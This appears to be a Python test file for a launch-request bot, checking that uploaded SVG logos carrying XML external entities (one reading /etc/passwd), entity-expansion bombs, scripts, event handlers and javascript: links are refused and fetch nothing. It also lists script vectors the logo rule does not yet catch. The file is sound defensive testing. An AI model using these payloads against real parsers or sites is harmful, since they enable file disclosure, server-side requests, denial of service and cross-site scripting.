"""Hostile SVG logos: external entities (a local file, an http URL, a parameter entity), a
<script>, event handlers, javascript: links, entity expansion bombs. Each is refused with the
LOGO rules' findings, by `launchbot check` and through the request form's upload alike; no
entity is expanded, nothing is fetched (a hostile server on loopback sees no request), and the
answer comes fast without a memory blow-up.

Some SVG constructs run script or load resources where an SVG is rendered inline, yet pass
LOGO-SVG today (RULES.md asks for "no <script> element"): they are listed as strict xfails,
so fixing bot/rules/logo.py turns them into failures to remove."""

from __future__ import annotations

import json
import resource
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.cli import main

from .conftest import EXAMPLES, PARTNER, Evil, World, launch_data

HEAD = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'viewBox="0 0 171 40"')
EVIL_URL = "http://127.0.0.1:{port}"
LOL = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol0 "lol">{LOL}]>'
                  f'{HEAD}><text>&lol9;</text></svg>')
QUADRATIC = (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "{"a" * 40_000}">]>'
             f'{HEAD}><text>{"&a;" * 1_000}</text></svg>')
NOT_EXPANDED = "were not expanded"

# name -> (SVG, a fragment of the LOGO-SVG finding)
HOSTILE: dict[str, tuple[str, str]] = {
    "external entity: SYSTEM file:///etc/passwd": (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'{HEAD}><text>&x;</text></svg>', NOT_EXPANDED),
    "external entity: SYSTEM http URL": (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL_URL}/xxe">]>'
        f'{HEAD}><text>&x;</text></svg>', NOT_EXPANDED),
    "external parameter entity": (
        f'<!DOCTYPE svg [<!ENTITY % d SYSTEM "{EVIL_URL}/x.dtd"> %d;]>{HEAD}/>', "not allowed"),
    "<script> element": (f"{HEAD}><script>alert(document.cookie)</script></svg>",
                         "a <script> element"),
    "<script> with an external src": (
        f'{HEAD}><script xlink:href="{EVIL_URL}/x.js"/></svg>', "a <script> element"),
    "onload= on the root": (f'{HEAD} onload="alert(1)"/>', "onload= on <svg>"),
    "onclick= on a child": (f'{HEAD}><rect onclick="alert(1)"/></svg>', "onclick= on <rect>"),
    "OnMouseOver= in mixed case": (f'{HEAD}><rect OnMouseOver="alert(1)"/></svg>',
                                   "onmouseover= on <rect>"),
    "a javascript: link": (f'{HEAD}><a xlink:href="javascript:alert(1)"><rect/></a></svg>',
                           "javascript: link"),
    "billion laughs (10^9 expansions)": (BILLION_LAUGHS, NOT_EXPANDED),
    "quadratic blow-up (40 MB)": (QUADRATIC, NOT_EXPANDED),
}
# Rendered inline, these run script; LOGO-SVG does not see them yet (bot/rules/logo.py).
GAPS: dict[str, str] = {
    "<animate> setting href to javascript:": (
        f'{HEAD}><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text>x</text></a></svg>'),
    "<set> setting href to javascript:": (
        f'{HEAD}><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
        '</svg>'),
    "<foreignObject> with a javascript: iframe": (
        f'{HEAD}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="javascript:alert(1)"/></foreignObject></svg>'),
    "a data: URI link to HTML": (
        f'{HEAD}><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect/></a>'
        '</svg>'),
}
# External references: allowed by the rules (not script), and never fetched by the bot.
REFERENCES: dict[str, str] = {
    "an external DTD": (f'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "{EVIL_URL}/svg.dtd">'
                        f'{HEAD}/>'),
    "<image> from another host": f'{HEAD}><image href="{EVIL_URL}/pixel.png"/></svg>',
    "<use> from another host": f'{HEAD}><use xlink:href="{EVIL_URL}/sprite.svg#a"/></svg>',
    "@import in <style>": f'{HEAD}><style>@import url({EVIL_URL}/x.css);</style></svg>',
    "an xml-stylesheet instruction": (f'<?xml-stylesheet href="{EVIL_URL}/x.css"?>{HEAD}/>'),
}


def _svg(template: str, evil: Evil) -> bytes:
    return template.replace(EVIL_URL, evil.url).encode()


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kB on Linux


def check(tmp_path: Path, svg: bytes, capsys: pytest.CaptureFixture[str]
          ) -> tuple[int, list[dict[str, Any]], float]:
    """`launchbot check --json` on the example launch with this logo: (exit, findings, s)."""
    (tmp_path / "logo.svg").write_bytes(svg)
    (tmp_path / "benefits-cert.pem").write_bytes((EXAMPLES / "benefits-cert.pem").read_bytes())
    request = tmp_path / "request.yaml"
    request.write_text(yaml.safe_dump(launch_data(logo="logo.svg")))
    capsys.readouterr()
    started = time.monotonic()
    code = main(["check", str(request), "--json", "--today", "2026-11-02"])
    elapsed = time.monotonic() - started
    return code, json.loads(capsys.readouterr().out)["findings"], elapsed


@pytest.mark.parametrize("name", list(HOSTILE))
def test_launchbot_check_refuses_a_hostile_svg(name: str, tmp_path: Path, evil: Evil,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    svg, fragment = HOSTILE[name]
    before = _peak_mb()
    code, findings, elapsed = check(tmp_path, _svg(svg, evil), capsys)
    assert code == 1
    logo = [f for f in findings if f["field"] == "logo"]
    assert [f["rule"] for f in logo] == ["LOGO-SVG"]
    assert fragment in logo[0]["message"]
    text = json.dumps(findings)
    assert "root:" not in text and "lollol" not in text and "aaaa" not in text
    # A hang bound, not a speed target (bench/ measures speed): an expanding entity or a
    # fetched DTD would take minutes, a refused SVG milliseconds even on a loaded machine.
    assert elapsed < 10 and _peak_mb() - before < 50
    assert evil.seen == []


@pytest.mark.parametrize("name", list(REFERENCES))
def test_external_references_are_never_fetched(name: str, tmp_path: Path, evil: Evil,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    code, findings, _ = check(tmp_path, _svg(REFERENCES[name], evil), capsys)
    assert code == 0, findings  # an SVG may reference; the logo is never rendered here
    assert evil.seen == []


@pytest.mark.parametrize("name", list(GAPS))
@pytest.mark.xfail(strict=True, reason="LOGO-SVG sees <script>, on*= and javascript: links "
                   "only (bot/rules/logo.py)")
def test_script_the_rules_do_not_see_yet(name: str, tmp_path: Path, evil: Evil,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    _, findings, _ = check(tmp_path, _svg(GAPS[name], evil), capsys)
    assert "LOGO-SVG" in [f["rule"] for f in findings]


def test_the_form_upload_refuses_each_hostile_svg(world: World, evil: Evil) -> None:
    slack, sender = world.slack, world.sender
    slack.add_file("F0CERT", "cert.pem", (EXAMPLES / "benefits-cert.pem").read_bytes())
    for n, (svg, _) in enumerate(HOSTILE.values()):
        slack.add_file(f"F0SVG{n:02d}", f"logo-{n}.svg", _svg(svg, evil))
    sender.slash_command("/launch-request", user_id=PARTNER)
    view = world.view_of(PARTNER, 0)
    for action, value in (("pick_kind", "launch"), ("pick_protocol", "oidc_private_key_jwt")):
        before = world.view_calls()
        sender.block_action(action, user_id=PARTNER, view=view, value=value)
        view = world.view_of(PARTNER, before)
    data = launch_data()
    values = {"app_name": data["app_name"], "friendly_name": data["friendly_name"],
              "agency": data["agency"], "ial": "1", "issuer": data["issuer"],
              "certificates": ["F0CERT"], "redirect_uris": data["redirect_uris"][0],
              "iaa_number": data["iaa_number"], "application_url": data["application_url"],
              "audience": "general_public", "estimated_annual_registrations": "1000",
              "contacts.program": data["contacts"]["program"],
              "contacts.technical": data["contacts"]["technical"],
              "attestations": ["iaa_lists_integration", "production_app_created",
                               "ato_environment", "logo_approved"]}
    before = _peak_mb()
    for n, (name, (_, fragment)) in enumerate(HOSTILE.items()):
        started = time.monotonic()
        answer = sender.view_submission(view, user_id=PARTNER,
                                        values={**values, "logo": [f"F0SVG{n:02d}"]}).json()
        elapsed = time.monotonic() - started
        assert answer["response_action"] == "errors", (name, answer)
        assert set(answer["errors"]) == {"logo"}, (name, answer["errors"])
        told = answer["errors"]["logo"]
        assert "(LOGO-SVG)" in told and fragment in told, (name, told)
        assert "root:" not in told and "lollol" not in told
        assert elapsed < 10, (name, elapsed)  # a hang bound, as above
    assert _peak_mb() - before < 50
    assert evil.seen == []
    assert not slack.messages_in("C0REVIEW")  # nothing was filed
